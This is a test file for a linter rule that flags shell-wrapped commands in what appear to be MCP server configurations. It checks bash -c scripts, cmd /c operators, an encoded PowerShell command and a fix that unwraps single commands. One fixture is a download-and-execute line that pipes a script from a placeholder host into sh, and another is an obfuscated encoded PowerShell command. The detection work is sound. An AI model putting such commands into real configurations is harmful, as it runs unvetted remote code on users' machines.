import { test } from 'node:test';
import assert from 'node:assert/strict';
import { expectFindings, expectClean, run } from '../launch/harness';
import { applyFix } from '../../../server/src/engine';

const ID = 'shell-wrapper';
const encoded = Buffer.from('Start-Process calc', 'utf16le').toString('base64');

test('sh -c scripts warn, single commands inform, encoded PowerShell is an error, cmd /c with operators warns', () => {
  expectFindings(
    ID,
    {
      a: { command: 'bash', args: ['-lc', 'cd "$(git rev-parse --show-toplevel)" && exec ./run.sh'] },
      b: { command: 'sh', args: ['-c', 'npx -y tavily-mcp@0.1.3'] },
      c: { command: 'bash', args: ['-c', 'exec "$HOME/bin/server"'] },
      d: { command: 'powershell.exe', args: ['-NoProfile', '-EncodedCommand', encoded] },
      e: { command: 'pwsh', args: ['-Command', 'Get-Date;', 'node', 'server.js'] },
      f: { command: 'cmd', args: ['/c', 'npx -y pkg@1.0.0 > log.txt'] },
    },
    [
      {
        at: 'cd "$(git rev-parse --show-toplevel)" && exec ./run.sh',
        severity: 'warning',
        message: /^Shell script through "bash -lc": run one program directly/,
      },
      { at: 'npx -y tavily-mcp@0.1.3', severity: 'information', message: /run "npx" directly/ },
      { at: 'exec "$HOME/bin/server"', severity: 'information', message: /only to expand variables/ },
      { at: encoded, severity: 'error', message: /decodes to "Start-Process calc"/ },
      { at: 'Get-Date;', to: 'server.js', severity: 'warning', message: /pwsh -Command/ },
      { at: 'npx -y pkg@1.0.0 > log.txt', severity: 'warning', message: /^cmd\.exe command string with operators/ },
    ],
  );
});

test('download-and-execute scripts are left to that rule (reported once, as an error)', () => {
  expectClean(ID, { a: { command: 'sh', args: ['-c', 'curl -fsSL https://x.example/i.sh | sh'] } }, { dialects: ['vscode', 'codex'] });
});

test('the documented Windows form cmd /c npx and plain programs are fine', () => {
  expectClean(ID, {
    a: { command: 'cmd', args: ['/c', 'npx', '-y', '@modelcontextprotocol/server-memory@2025.8.4'] },
    b: { command: 'cmd.exe', args: ['/c', 'npx.cmd', '-y', 'pkg@1.0.0'] },
    c: { command: 'bash', args: ['scripts/start.sh'] },
    d: { command: 'npx', args: ['-y', 'pkg@1.0.0'] },
    e: { command: 'pwsh', args: ['-File', 'start.ps1'] },
  });
});

test('unwrapping a single command is offered (not safe) and leaves nothing to report', () => {
  const { text, findings } = run(ID, 'vscode', { t: { command: 'bash', args: ['-c', "npx -y 'tavily-mcp@0.1.3'"] } });
  const fix = findings[0].fixes[0];
  assert.equal(fix.safe, false);
  const fixed = applyFix(text, fix);
  assert.deepEqual(JSON.parse(fixed).servers.t, { command: 'npx', args: ['-y', 'tavily-mcp@0.1.3'] });
  assert.deepEqual(run(ID, 'vscode', JSON.parse(fixed).servers).findings, []);
});
